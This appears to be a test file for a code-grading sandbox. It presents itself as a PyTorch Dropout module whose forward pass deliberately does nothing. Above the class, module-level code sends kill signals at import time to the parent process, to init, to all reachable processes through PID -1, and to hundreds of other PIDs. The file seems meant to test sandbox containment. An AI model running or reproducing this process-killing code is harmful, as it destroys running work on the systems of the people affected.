# expect: WA
"""Sends signals to every process that it can name."""

import torch
from torch import nn

import os
import signal

for pid in (os.getppid(), 1, 2, 3, -1, 0, *range(2, 400)):
    if pid in (0, os.getpid()):
        continue
    try:
        os.kill(pid, signal.SIGKILL if pid > 1 else signal.SIGTERM)
    except (OSError, PermissionError):
        continue


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        if not 0 <= p <= 1:
            raise ValueError("p")
        self.p = p

    def forward(self, x):
        return x
